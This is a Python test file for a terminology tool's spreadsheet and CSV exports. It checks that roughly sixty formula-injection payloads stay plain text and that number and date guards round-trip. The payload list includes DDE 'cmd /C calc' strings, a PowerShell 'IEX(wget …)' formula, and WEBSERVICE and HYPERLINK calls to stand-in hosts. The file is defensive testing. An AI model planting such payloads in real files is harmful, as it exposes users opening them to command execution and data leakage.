"""Formula payloads (S25) in every format that a spreadsheet program opens: they are texts and stay texts."""

from __future__ import annotations

import zipfile
from functools import partial
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.files.office_suite import OfficeSuite, office_sample
from termdesk.domain.entries.entries import Entries
from termdesk.domain.language.language import LanguagePair
from termdesk.formats.read_result import ReadResult
from termdesk.formats.spreadsheets import xlsx_reader
from termdesk.formats.spreadsheets.xlsx_writer import PairEntries, dictionary_sheets, write
from termdesk.formats.text import delimited
from termdesk.formats.text.formulas import (
    as_text,
    count_formulas,
    find_converted_phrases,
    guard_formulas,
    remove_guards,
)
from termdesk.formats.text.table_preview import preview_table

pytestmark = pytest.mark.scorecard("S25")

EN_DE = LanguagePair("en", "de")
PAYLOADS = (
    *("=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0)'!A0", "=2+5+cmd|' /C calc'!A0", "=A1", "="),
    *("=SUM(A1:A9)", "=SUM(1;2)", '=HYPERLINK("http://evil.example","click")', '=WEBSERVICE("http://e.example")'),
    *('=IMPORTXML("http://e.example","//a")', '=IMAGE("http://e.example/a.png")', "=RAND()", "=NOW()", "=1/0"),
    *('=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\cmd.exe /c calc'!''", "={1;2}", "{=1+1}", "==1", "= 1 + 1"),
    *('="a"&"b"', '=INDIRECT("A1")', '=EXEC("calc")', '=REGISTER("k")', '=CALL("k")', "=_xlfn.WEBSERVICE(1)"),
    *("+1", "+1+1", "+cmd|' /C calc'!A0", "+4930123456", "+SUM(1)", "-1", "-1+1", "-cmd|' /C calc'!A0", "-able", "--x"),
    *("@SUM(1+1)", "@A1", "@ref", "@cmd|' /C calc'!A0", "@", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"),
    *("'=1+1", "''=1+1", "'@x", "'quoted'", '=""', "#N/A", "#REF!", "#DIV/0!", "TRUE", "1-2", "1/2", "1e5", "007"),
    *("2024-03-01", "12:30", "1.000,5", "50 %", "http://e.example", "mailto:a@e.example", "<a href='x'>", "A1"),
)


def entries_of(*payloads: str) -> Entries:
    """Return every payload once as a source and once as a target."""
    return Entries.of([*((each, "text") for each in payloads), *((f"term {n}", p) for n, p in enumerate(payloads))])


def formulas_in(path: Path) -> list[str]:
    """Return the cells with a formula."""
    if path.suffix == ".ods":
        with zipfile.ZipFile(path) as archive:
            return ["a formula"] * archive.read("content.xml").count(b"table:formula")
    cells = (cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row)
    return [cell.coordinate for cell in cells if cell.data_type == "f"]


def read_again(path: Path) -> list[tuple[str, str]]:
    sheet = xlsx_reader.sheets(path)[0].name
    result = xlsx_reader.read(path, sheet, xlsx_reader.preview_sheet(path, sheet).layout_for(EN_DE))
    assert not result.rejected_rows
    assert not result.converted
    return list(result.entries)


def test_there_are_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_a_workbook_holds_no_formula_and_is_read_as_it_was(tmp_path: Path) -> None:
    entries = entries_of(*PAYLOADS)

    write(tmp_path / "t.xlsx", dictionary_sheets([PairEntries(EN_DE, entries)]))

    assert formulas_in(tmp_path / "t.xlsx") == []
    assert read_again(tmp_path / "t.xlsx") == list(entries)


def write_payloads(path: Path) -> None:
    write(path, dictionary_sheets([PairEntries(EN_DE, entries_of(*PAYLOADS))]))


WORKBOOK = office_sample("payloads.xlsx", write_payloads, "xlsx", "ods")


@pytest.mark.parametrize("kind", WORKBOOK.kinds)
def test_libreoffice_computes_none_of_a_workbook(office_suite: OfficeSuite, kind: str) -> None:
    opened = office_suite.converted(WORKBOOK, kind)

    assert formulas_in(opened) == []
    assert read_again(opened) == list(entries_of(*PAYLOADS))


def test_a_plain_csv_is_byte_exact_and_its_formulas_are_counted(tmp_path: Path) -> None:
    entries = entries_of(*PAYLOADS)
    path = tmp_path / "t.csv"

    path.write_bytes(b"".join(delimited.csv(entries)))

    assert list(delimited.read(path, preview_table(path, separator=",").layout).entries) == list(entries)
    assert count_formulas(entries) == 2 * sum(1 for each in PAYLOADS if each[0] in "=+-@\uff1d\uff0b\uff0d\uff20") > 80


def test_phrases_that_only_hold_such_signs_are_no_formulas() -> None:
    assert count_formulas(Entries.of([("b=c", "d-e"), ("a", "\ttab"), ("=", "x")])) == 2


def write_guarded(path: Path, separator: str) -> None:
    path.write_bytes(
        b"".join(delimited.csv(guard_formulas(entries_of(*PAYLOADS)), separator=separator, with_mark=True))
    )


GUARDED = {
    ",": office_sample("commas.csv", partial(write_guarded, separator=","), "xlsx"),
    ";": office_sample("semicolons.csv", partial(write_guarded, separator=";"), "xlsx"),
}


@pytest.mark.parametrize("separator", GUARDED)
def test_libreoffice_computes_none_of_a_guarded_csv(office_suite: OfficeSuite, separator: str) -> None:
    assert formulas_in(office_suite.converted(GUARDED[separator], "xlsx")) == []


@given(st.lists(st.tuples(st.text("'=+-@a\uff1d\t", max_size=4), st.text("'=+-@a", max_size=4)), unique=True))
def test_what_was_guarded_is_freed_as_it_was(rows: list[tuple[str, str]]) -> None:
    entries = Entries.of(rows)

    result, count = remove_guards(ReadResult(guard_formulas(entries), range(len(rows))))

    assert list(result.entries) == rows
    assert bool(count) == (list(guard_formulas(entries)) != rows)


@given(st.lists(st.tuples(st.text("'=\"071/", max_size=5), st.text("=-a0e1", max_size=4)), unique=True))
def test_what_was_written_as_text_is_freed_as_it_was(rows: list[tuple[str, str]]) -> None:
    written = guard_formulas(Entries.of(rows), is_all_text=True)

    result, count = remove_guards(ReadResult(written, range(len(rows))))

    assert list(result.entries) == rows
    assert bool(count) == (list(written) != rows)
    assert find_converted_phrases(written) == []


def test_only_what_would_be_a_number_or_a_date_becomes_a_formula_of_a_text() -> None:
    texts = ["007", "1/2", "=1+1", "tree", '="007"', "'=1"]

    assert [as_text(each) for each in texts] == ['="007"', '="1/2"', "'=1+1", "tree", '\'="007"', "''=1"]


def test_a_file_that_was_not_guarded_keeps_its_apostrophes() -> None:
    result = ReadResult(Entries.of([("=1", "'=1")]), [1])

    assert remove_guards(result) == (result, 0)


CHANGED = (
    *("007", "1E5", "2e-3", "1.50", "1/2", "3-4-2026", "10:30", "12345678901234567", "5 Mar", "Dec-25", "Mar 5, 2024"),
    *("TRUE", "false", "50 %", "5.5%", "$5", "5 €", "(5)", "1,234", "1,234.50", ".5", "5.", "2024-03-01T10:00"),
    *("2024-03-01 10:30", "10:30 PM", "7 pm", "100:20", "05/2024"),
)
KEPT = (
    "7",
    "A4",
    "v1.2.3",
    "tree",
    "1 tree",
    "24/7 service",
    "5 March trees",
    "truth",
    "%",
    "$",
    "(a)",
    "1a",
    "10 pm x",
)


def test_what_spreadsheets_turn_into_numbers_and_dates_is_known() -> None:
    entries = Entries([*CHANGED, *KEPT], ["x"] * len(CHANGED + KEPT))

    assert find_converted_phrases(entries) == list(CHANGED)


def write_shown_as_text(path: Path) -> None:
    entries = Entries([*CHANGED, *KEPT], ["x"] * len(CHANGED + KEPT))
    path.write_bytes(b"".join(delimited.csv(guard_formulas(entries, is_all_text=True), with_mark=True)))


# 44, 34, 76: comma, quotation mark, UTF-8. The last “true” makes it detect dates, as Excel does.
TEXT_OPTIONS = ("--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",)
SHOWN_AS_TEXT = office_sample("shown.csv", write_shown_as_text, "xlsx", options=TEXT_OPTIONS)


def test_libreoffice_shows_what_was_written_as_text_as_it_is(office_suite: OfficeSuite) -> None:
    rows = openpyxl.load_workbook(office_suite.converted(SHOWN_AS_TEXT, "xlsx"), data_only=True).active

    assert rows is not None
    assert [str(row[0].value) for row in rows.iter_rows()] == [*CHANGED, *KEPT]
